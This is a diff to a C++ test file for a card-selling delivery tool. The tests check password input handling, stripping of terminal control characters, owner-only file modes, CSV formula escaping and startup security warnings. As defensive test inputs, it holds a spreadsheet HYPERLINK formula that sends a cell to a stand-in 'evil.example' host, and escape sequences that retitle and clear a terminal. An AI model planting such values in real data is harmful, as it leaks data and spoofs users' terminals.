@@ -7,6 +7,7 @@
 #include <unistd.h>
 
 #include <algorithm>
+#include <cstdlib>
 #include <map>
 #include <thread>
 #include <set>
@@ -14,6 +15,7 @@
 #include "platform/instance_lock.h"
 #include "base/settings.h"
 #include "base/files.h"
+#include "notify/password.h"
 #include "store/record_store.h"
 #include "support/process.h"
 #include "support/raw_http_server.h"
@@ -396,16 +398,32 @@ TEST(RunRefusals, BadUsageExitsWithTwo) {
   EXPECT_EQ(RunProcess(TorvaneBinary(), {"cards", "import", "x.txt"}, dir.path(), 30s).exitCode, 2);
   EXPECT_EQ(RunProcess(TorvaneBinary(), {"sent", "list", "--order", "1", "--buyer", "b"}, dir.path(), 30s).exitCode,
             2);
-  EXPECT_EQ(RunProcess(TorvaneBinary(), {}, dir.path(), 30s).exitCode, 2);
+  // Without arguments the window opens; with no display to open it on, the usage instead.
+  ::unsetenv("DISPLAY");
+  ::unsetenv("WAYLAND_DISPLAY");
+  ::unsetenv("QT_QPA_PLATFORM");
+  auto noDisplay = RunProcess(TorvaneBinary(), {}, dir.path(), 30s);
+  EXPECT_EQ(noDisplay.exitCode, 2);
+  EXPECT_NE(noDisplay.err.find("torvane run"), std::string::npos) << noDisplay.err;
 }
 
-TEST(MailPassword, PrintsTheStoredFormOnOneLine) {
+TEST(MailPassword, ReadFromStandardInputNeverFromTheCommandLine) {
   TempDir dir;
-  auto r = RunProcess(TorvaneBinary(), {"mail-password", "Pw1234567"}, dir.path(), 30s);
-  ASSERT_EQ(r.exitCode, 0);
+  WriteBytes(dir / "password.txt", "Pw1234567\r\n");
+  auto r = RunProcess(TorvaneBinary(), {"mail-password"}, dir.path(), 30s, dir / "password.txt");
+  ASSERT_EQ(r.exitCode, 0) << r.err;
   auto lines = Lines(r.out);
   ASSERT_EQ(lines.size(), 1u);
   EXPECT_EQ(lines[0].find("Pw1234567"), std::string::npos);
+  EXPECT_EQ(RevealMailPassword(Utf8ToGbk(lines[0])), "Pw1234567");
+
+  auto argument = RunProcess(TorvaneBinary(), {"mail-password", "Pw1234567"}, dir.path(), 30s);
+  EXPECT_EQ(argument.exitCode, 2);
+  EXPECT_NE(argument.err.find("shell history"), std::string::npos) << argument.err;
+  EXPECT_EQ(argument.out, "");
+  auto nothing = RunProcess(TorvaneBinary(), {"mail-password"}, dir.path(), 30s);
+  EXPECT_EQ(nothing.exitCode, 1);
+  EXPECT_EQ(nothing.out, "");
 }
 
 TEST(RunUntilStopped, SigtermRunsTheExitStepsAndKeepsTheHistory) {
@@ -526,4 +544,129 @@ TEST(RunOnce, PlainHttpServiceAddressIsRefusedBeforeAnyTraffic) {
   EXPECT_NE(run.err.find("https"), std::string::npos) << run.err;
   EXPECT_EQ(market.Connections(), 0);
   EXPECT_FALSE(std::filesystem::exists(dir / u8"历史记录.log"));
+}
+
+// Control sequences in a buyer nick (title change, screen clear, colour) never reach the terminal,
+// the history, the records or the SMS text; what an older store already holds is shown as \xNN.
+TEST(TerminalOutput, ControlCharactersFromThePageAreStrippedAndStoredOnesEscaped) {
+  Settings settings = MailDelivery();
+  settings.deliveredSms = true;
+  settings.smsAccount = "13800001111";
+  settings.smsPassword = "right-pw";
+  Shop shop(settings);
+  ASSERT_TRUE(shop.ok()) << shop.error();
+  ASSERT_TRUE(shop.sim().SetImAccounts({{"13800001111", "right-pw"}}));
+  ASSERT_TRUE(shop.LogIn());
+  ASSERT_TRUE(shop.AddCards("点卡A", {{"A1", "a-secret-1"}}));
+  ASSERT_TRUE(shop.sim().AddOrder("9301", "点卡A", "1", "\x1B]0;OWNED\x07\x1B[2J\x1B[1;31mFAKE\x7F买家", "one@example.com"));
+  {
+    StoreError error;
+    auto stores = CardStores::Open(shop.dataDir(), &error);
+    ASSERT_TRUE(stores) << error.message;
+    ASSERT_EQ(stores->Sent().AppendMany({{"点卡A", "9300", "\x1B[2Jold\x7F", "1", "N0", "S0", "", "邮件发送", "T"}}), 1u);
+  }
+  auto run = RunProcess(TorvaneBinary(), shop.RunArgs(true), shop.dataDir(), 120s);
+  ASSERT_EQ(run.exitCode, 0) << run.err;
+  ASSERT_EQ(shop.sim().OrderStatus("9301"), "shipped") << run.out;
+  const std::string stripped = "]0;OWNED[2J[1;31mFAKE买家";
+  const auto sms = shop.sim().Sms();
+  ASSERT_FALSE(sms.empty());
+  auto listed = RunProcess(TorvaneBinary(), {"sent", "list"}, shop.dataDir(), 30s);
+  ASSERT_EQ(listed.exitCode, 0) << listed.err;
+  struct Row {
+    const char* where;
+    std::string text;
+    std::string shows;  // a part the text must hold
+  };
+  const Row rows[] = {
+      {"run output", run.out, U(stripped)},
+      {"history", ReadBytes(shop.dataDir() / u8"历史记录.log"), stripped},
+      {"SMS text", sms.back().text, stripped},
+      {"sent list, new record", listed.out, "\t9301\t" + U(stripped) + "\t"},
+      {"sent list, old record", listed.out, "\t9300\t\\x1B[2Jold\\x7F\t"},
+  };
+  for (const Row& row : rows) {
+    EXPECT_NE(row.text.find(row.shows), std::string::npos) << row.where << ": " << row.text;
+    EXPECT_EQ(row.text.find_first_of("\x1B\x07\x7F"), std::string::npos) << row.where << ": " << row.text;
+  }
+}
+
+// Whatever the umask, the stores, the export and every data file are for the owner only.
+TEST(FileModes, EveryDataFileIsOwnerOnlyWhateverTheUmask) {
+  for (const mode_t mask : {mode_t{022}, mode_t{077}}) {
+    SCOPED_TRACE(mask);
+    const mode_t before = ::umask(mask);
+    Shop shop(MailDelivery());
+    ASSERT_TRUE(shop.ok()) << shop.error();
+    ASSERT_TRUE(shop.LogIn());
+    ASSERT_TRUE(shop.AddCards("点卡A", {{"A1", "a-secret-1"}}));
+    ASSERT_TRUE(shop.sim().AddOrder("9401", "点卡A", "1", "buyer1", "one@example.com"));
+    auto run = RunProcess(TorvaneBinary(), shop.RunArgs(true), shop.dataDir(), 120s);
+    auto exported = RunProcess(TorvaneBinary(), {"sent", "export", "out.csv"}, shop.dataDir(), 30s);
+    const std::filesystem::path privateDir = shop.dataDir() / "made";
+    std::string error;
+    EXPECT_TRUE(CreatePrivateDirectory(privateDir, &error)) << error;
+    ::umask(before);
+    ASSERT_EQ(run.exitCode, 0) << run.err;
+    ASSERT_EQ(exported.exitCode, 0) << exported.err;
+    for (const char8_t* name : {u8"库存卡密.edb", u8"已发卡密.edb", u8"历史记录.log", u8"临时黑名单.log",
+                                u8"已处理订单.log", u8"宝贝名称.txt", u8"cookies.txt", u8"out.csv"}) {
+      struct stat st {};
+      ASSERT_EQ(::stat((shop.dataDir() / name).c_str(), &st), 0) << U(PathText(name));
+      EXPECT_EQ(st.st_mode & 0777, 0600u) << U(PathText(name));
+    }
+    struct stat dir {};
+    ASSERT_EQ(::stat(privateDir.c_str(), &dir), 0);
+    EXPECT_EQ(dir.st_mode & 0777, 0700u);
+  }
+}
+
+// A field a spreadsheet would run as a formula is exported as text behind a quote.
+TEST(SentExport, FieldsThatWouldBeFormulasStayText) {
+  TempDir dir;
+  {
+    StoreError error;
+    auto stores = CardStores::Open(dir.path(), &error);
+    ASSERT_TRUE(stores) << error.message;
+    ASSERT_EQ(stores->Sent().AppendMany({{"=1+1", "+86", "-123", "@SUM(A1)", "\tx", "\ry",
+                                          "=HYPERLINK(\"http://evil.example/?\"&F2)", "a=b", "1-2"}}),
+              1u);
+  }
+  auto exported = RunProcess(TorvaneBinary(), {"sent", "export", "out.csv"}, dir.path(), 30s);
+  ASSERT_EQ(exported.exitCode, 0) << exported.err;
+  const std::string csv = ReadBytes(dir / "out.csv");
+  const std::string row = csv.substr(csv.find("\r\n") + 2);
+  EXPECT_EQ(row, "\"'=1+1\",\"'+86\",\"'-123\",\"'@SUM(A1)\",\"'\tx\",\"'\ry\","
+                 "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&F2)\",\"a=b\",\"1-2\"\r\n");
+}
+
+// The deployment file holds the mail account: a mode that lets others read it and a password in
+// plain text are each said at start, on standard error and in the activity log.
+TEST(RunStartUp, WarnsOfADeploymentFileOthersCanReadAndOfAPlainPassword) {
+  struct Row {
+    mode_t mode;
+    std::string password;
+    bool modeWarning, passwordWarning;
+  };
+  const Row rows[] = {
+      {0644, "Pw1234567", true, true},
+      {0640, ObfuscateMailPassword("Pw1234567"), true, false},
+      {0600, ObfuscateMailPassword("Pw1234567"), false, false},
+  };
+  for (const Row& row : rows) {
+    SCOPED_TRACE(row.mode);
+    TempDir dir;
+    const auto file = dir / u8"部署配置.ini";
+    WriteBytes(file, "[市场]\r\n登录主机=http://127.0.0.1:9\r\n个人主页主机=http://127.0.0.1:9\r\n"
+                     "会员主机=http://127.0.0.1:9\r\n物流主机=http://127.0.0.1:9\r\n交易主机=http://127.0.0.1:9\r\n"
+                     "评价主机=http://127.0.0.1:9\r\n[邮件]\r\n服务器=127.0.0.1\r\n加密=无\r\n密码=" + row.password + "\r\n");
+    ASSERT_EQ(::chmod(file.c_str(), row.mode), 0);
+    auto run = RunProcess(TorvaneBinary(), {"run", "--once", "--config-dir", dir.path().string()}, dir.path(), 60s);
+    ASSERT_EQ(run.signal, 0);
+    const std::string history = ReadBytes(dir / u8"历史记录.log");
+    EXPECT_EQ(run.err.find(U("本机其他用户也能读取")) != std::string::npos, row.modeWarning) << run.err;
+    EXPECT_EQ(history.find("本机其他用户也能读取") != std::string::npos, row.modeWarning);
+    EXPECT_EQ(run.err.find(U("[邮件] 密码 是明文")) != std::string::npos, row.passwordWarning) << run.err;
+    EXPECT_EQ(history.find("[邮件] 密码 是明文") != std::string::npos, row.passwordWarning);
+  }
 }
